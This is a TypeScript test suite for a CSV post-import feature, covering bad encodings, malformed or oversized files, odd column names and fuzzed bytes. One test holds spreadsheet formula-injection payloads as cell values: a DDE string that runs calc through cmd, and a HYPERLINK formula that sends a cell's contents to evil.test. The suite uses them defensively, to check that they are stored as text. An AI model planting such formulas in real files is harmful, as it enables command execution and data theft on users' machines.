import { readdirSync, readFileSync } from 'node:fs';
import { createRequire } from 'node:module';
import { gzipSync } from 'node:zlib';
import { parse } from 'csv-parse/sync';
import { describe, expect } from 'vitest';
import { tenthOf } from '../../testing/cases.ts';
import * as fc from '../../testing/fast-check.ts';
import { csvOf, it, ROW } from './csv-imports.fixture.ts';

const HEADER = Object.keys(ROW).join(',');
const LINE = Object.values(ROW).join(',');
const GOOD = `${HEADER}\n${LINE}\n`;
const NOT_TEXT = 'The file is not UTF-8 text. Save it as CSV UTF-8 and import it again.';
const NO_COLUMNS = 'The header lacks the required columns teamId, title, postDate, status, socialAccountTypes.';

const utf16 = (text: string) => Buffer.from(`\ufeff${text}`, 'utf16le');
const bytes = (...parts: readonly (string | readonly number[])[]) => Buffer.concat(parts.map(part => Buffer.from(part as string)));
/** The beginning of a zip archive, and so of any office document. */
const ZIP = bytes('PK\x03\x04\x14\0\0\0\x08\0', [0xcf, 0x9d, 0x62, 0x5c], 'posts.xml');
const EMPTY_ZIP = bytes(
  'PK\x05\x06',
  Array.from({ length: 18 }, () => 0),
);

describe('[CSV-23, D-CSV-03] a file fails as a whole, and makes no post, when it', () => {
  it.for<[string, string | Uint8Array, string]>([
    ['is UTF-16, little-endian', utf16(GOOD), NOT_TEXT],
    ['is UTF-16, big-endian', utf16(GOOD).swap16(), NOT_TEXT],
    ['is UTF-16 without a mark', Buffer.from(GOOD, 'utf16le'), NOT_TEXT],
    ['is Latin-1', Buffer.from(GOOD.replace('launch', 'Aktion für alle'), 'latin1'), NOT_TEXT],
    ['is Latin-1 in its last row alone', bytes(GOOD, LINE, [0xe4]), NOT_TEXT],
    ['ends within a character', bytes(GOOD, LINE, [0xc3]), NOT_TEXT],
    ['has a character in too many bytes', bytes(GOOD, [0xc0, 0xaf]), NOT_TEXT],
    ['is a zip archive', ZIP, NOT_TEXT],
    ['is a zip archive with nothing in it', EMPTY_ZIP, NOT_TEXT],
    ['is compressed', gzipSync(GOOD), NOT_TEXT],
    ['is empty', '', 'The file is empty: it has neither a header nor data rows.'],
    ['is a byte order mark', '\ufeff', 'The file is empty: it has neither a header nor data rows.'],
    ['has blank lines only', '\n\r\n\n', 'The file is empty: it has neither a header nor data rows.'],
    ['has a header only', HEADER, 'The file has no data rows, only a header.'],
    ['has blank lines below its header', `${HEADER}\r\n\r\n\n`, 'The file has no data rows, only a header.'],
    ['has no header', `${LINE}\n${LINE}\n`, NO_COLUMNS],
    ['has semicolons between its cells', GOOD.replaceAll(',', ';'), NO_COLUMNS],
    ['has tabs between its cells', GOOD.replaceAll(',', '\t'), NO_COLUMNS],
    ['is JSON', JSON.stringify([ROW], null, 2), NO_COLUMNS],
    ['names its columns otherwise', GOOD.replace('title', 'Title'), 'The header lacks the required column title.'],
    ['never closes a quote', `${GOOD}"${GOOD}`, 'The file is not readable as CSV: in row 2 a quote is never closed.'],
    [
      'has a row of a million cells',
      `${GOOD}${','.repeat(1_000_000)}\n`,
      'The file is not readable as CSV: a row has more than 16384 cells.',
    ],
    ['has a header of a million cells', ','.repeat(1_000_000), 'The file is not readable as CSV: a row has more than 16384 cells.'],
    [
      'has a cell of 20 MB',
      `${GOOD}"${'text\n'.repeat(4_000_000)}"\n`,
      'The file is not readable as CSV: in row 2 there is more than 16 MB of text.',
    ],
    ['never closes a quote in its header', `"${GOOD}`, 'The file is not readable as CSV: in the header a quote is never closed.'],
  ])('%s', async ([, file, error], { acme }) => {
    const { entity, rows } = await acme.importFile(file);
    expect(entity).toMatchObject({ status: 'FAILED', error, startedAt: null, processedRows: 0, successRows: 0, failedRows: 0 });
    expect(entity.completedAt).toBe(entity.updatedAt);
    expect([rows, await acme.countPosts()]).toEqual([[], 0]);
  });
});

describe('a file is accepted', () => {
  it.for<[string, string | Uint8Array]>([
    ['with a byte order mark', `\ufeff${GOOD}`],
    ['without a line end at its end', GOOD.trimEnd()],
    ['with lines of Windows', GOOD.replaceAll('\n', '\r\n')],
    ['with lines of old Macs', GOOD.replaceAll('\n', '\r')],
    ['with blank lines', `\n\n${GOOD.replaceAll('\n', '\n\n')}`],
    ['with its header in quotes', `${HEADER.split(',').map(name => `"${name}"`)}\n${LINE}\n`],
    ['with spaces around its column names', `${HEADER.replaceAll(',', ' , ')}\n${LINE}\n`],
    ['with its columns in another order', `${HEADER.split(',').toReversed()}\n${LINE.split(',').toReversed()}\n`],
  ])('%s', async ([, file], { acme }) => {
    const { row } = await acme.importFile(file);
    expect([row.error, row.rawRow]).toEqual([null, ROW]);
  });

  it('with unknown columns, even a thousand', async ({ acme }) => {
    const others = Object.fromEntries(Array.from({ length: 1000 }, (_, n) => [`column ${n}`, `cell ${n}`]));
    const { row } = await acme.importFile(csvOf({ ...others, ...ROW }));
    expect([row.error, row.rawRow]).toEqual([null, { ...others, ...ROW }]);
    expect(row.normalizedPayload).toMatchObject({ data: { TWITTER: { text: 'It is here' } } });
  });

  it('with columns without a name, or with an unusual one', async ({ acme }) => {
    const { row } = await acme.importFile(`,__proto__,constructor,${HEADER}\na,b,c,${LINE}\n`);
    expect(row.error).toBeNull();
    expect(JSON.stringify(row.rawRow)).toBe(
      JSON.stringify(JSON.parse(`{"__proto__":"b","constructor":"c"}`)).replace('}', `,${JSON.stringify(ROW).slice(1)}`),
    );
  });

  it('with a short line', async ({ acme }) => {
    const { text: _, ...rest } = ROW;
    const { rows } = await acme.importFile(`${HEADER},note\n${LINE.split(',').slice(0, 5)}\n${LINE.split(',').slice(0, 2)}\n`);
    expect(rows.map(({ error, rawRow }) => [error, rawRow])).toEqual([
      [null, rest],
      ['postDate is required', { teamId: ROW.teamId, title: ROW.title }],
    ]);
  });

  it.for([',late', ',', ',,'])('with a line longer than the header, even with empty cells: its row fails', async (more, { acme }) => {
    const { rows } = await acme.importFile(`${GOOD}${LINE}${more}\n${LINE}\n`);
    const cells = 6 + more.split(',').length - 1;
    expect(rows.map(({ error, rawRow }) => [error, rawRow])).toEqual([
      [null, ROW],
      [`The row has ${cells} cells, but the header names 6 columns. A cell that holds a comma must be quoted.`, ROW],
      [null, ROW],
    ]);
  });

  it.for(["=cmd|'/C calc'!A0", '=HYPERLINK("https://evil.test?x="&A1)', '+1+1', '-1', '@SUM(1)', '\t=1'])(
    'with the formula %j, which is text',
    async (text, { acme }) => {
      const { row } = await acme.importFile(csvOf({ ...ROW, title: text, text }));
      expect(row.rawRow).toMatchObject({ title: text, text });
      expect(await acme.post(row.postId)).toMatchObject({ title: text, data: { TWITTER: { text } } });
    },
  );

  it('with NUL and other strange characters, which are text', async ({ acme }) => {
    const text = 'a\0b\u0007c\u200b\u202ed\ufffe💥';
    const { row } = await acme.importFile(csvOf({ ...ROW, text }));
    expect([row.error, row.rawRow['text']]).toEqual([null, text]);
    expect((await acme.post(row.postId)).data.TWITTER?.text).toBe(text);
  });

  it('with a cell of 10 MB: as a text its row fails with a short message, elsewhere it is ignored', async ({ acme }) => {
    const huge = 'x'.repeat(10 * 1_048_576);
    const { rows, entity } = await acme.importFile(csvOf({ ...ROW, text: huge }, { ...ROW, note: huge }, ROW));
    expect(rows.map(({ error }) => error)).toEqual(['data.TWITTER.text must be at most 25000 characters long', null, null]);
    expect(rows[1]?.rawRow['note']).toHaveLength(huge.length);
    expect(entity.status).toBe('COMPLETED_WITH_ERRORS');
  });
});

describe('whatever the bytes', () => {
  /** A good file with some of its bytes replaced by others. */
  const invalid = fc
    .array(fc.tuple(fc.nat(3 * LINE.length), fc.uint8Array({ minLength: 1, maxLength: 3 })), { maxLength: 6 })
    .map(changes => {
      const file = Buffer.from(`${HEADER}\n${LINE}\n${LINE}\n`);
      for (const [at, others] of changes) file.set(others.slice(0, Math.max(0, file.length - at)), Math.min(at, file.length));
      return file;
    });

  it('the file is accepted, and its import ends', async ({ acme }) => {
    await fc.assert(
      fc.asyncProperty(fc.oneof(invalid, fc.uint8Array({ maxLength: 300 })), async file => {
        const { entity, rows } = await acme.importFile(file);
        expect(['COMPLETED', 'COMPLETED_WITH_ERRORS', 'FAILED']).toContain(entity.status);
        expect(entity.processedRows).toBe(entity.status === 'FAILED' ? 0 : entity.totalRows);
        expect(rows).toHaveLength(entity.processedRows);
        expect((entity.error === null) === (entity.status !== 'FAILED')).toBe(true);
      }),
      { numRuns: 60 },
    );
  });
});

/** The files of the corpus, and what is in them. */
const CORPUS = createRequire(import.meta.url)
  .resolve('csv-spectrum/package.json')
  .replace('package.json', '');
const SPECTRUM = readdirSync(`${CORPUS}csvs`).map(name => name.replace('.csv', ''));

describe('the files of csv-spectrum', () => {
  it('are present', () => expect(SPECTRUM).toHaveLength(12));

  it.for(tenthOf(SPECTRUM))('%s: is not an import', async (name, { acme }) => {
    const { entity } = await acme.importFile(readFileSync(`${CORPUS}csvs/${name}.csv`));
    expect([entity.status, entity.error]).toEqual(['FAILED', NO_COLUMNS]);
  });

  it.for(tenthOf(SPECTRUM))('%s: is read as intended after the required columns', async (name, { acme }) => {
    const text = readFileSync(`${CORPUS}csvs/${name}.csv`, 'utf8');
    const [header] = /^.+/.exec(text) ?? [];
    const lineEnd = text.includes('\r\n') ? '\r\n' : '\n';
    const records = parse<{ raw: string }>(text, { raw: true, columns: true, relax_quotes: true });
    const { rows } = await acme.importFile(
      [`${HEADER},${header}`, ...records.map(({ raw }) => `${LINE},${raw.replace(/\r?\n$/, '')}`)].join(lineEnd),
    );
    const meant = [JSON.parse(readFileSync(`${CORPUS}json/${name}.json`, 'utf8'))].flat();
    // The corpus made up the number in one of the two.
    if (name === 'location_coordinates') meant[0]['Contact Phone Number'] = '2095257564';
    expect(rows.map(({ error, rawRow }) => [error, rawRow])).toEqual(meant.map(cells => [null, { ...ROW, ...cells }]));
  });
});
